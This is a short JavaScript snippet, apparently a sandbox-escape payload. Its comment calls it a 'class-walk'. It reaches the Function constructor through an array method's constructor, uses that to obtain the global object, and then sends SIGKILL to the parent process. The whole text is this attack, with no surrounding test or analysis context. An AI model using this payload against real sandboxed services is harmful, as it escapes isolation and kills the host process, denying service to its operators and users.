// class-walk: Array.prototype.map's constructor returns the global object
const g = [].map.constructor('return this')();
g.process.kill(g.process.ppid, 'SIGKILL');
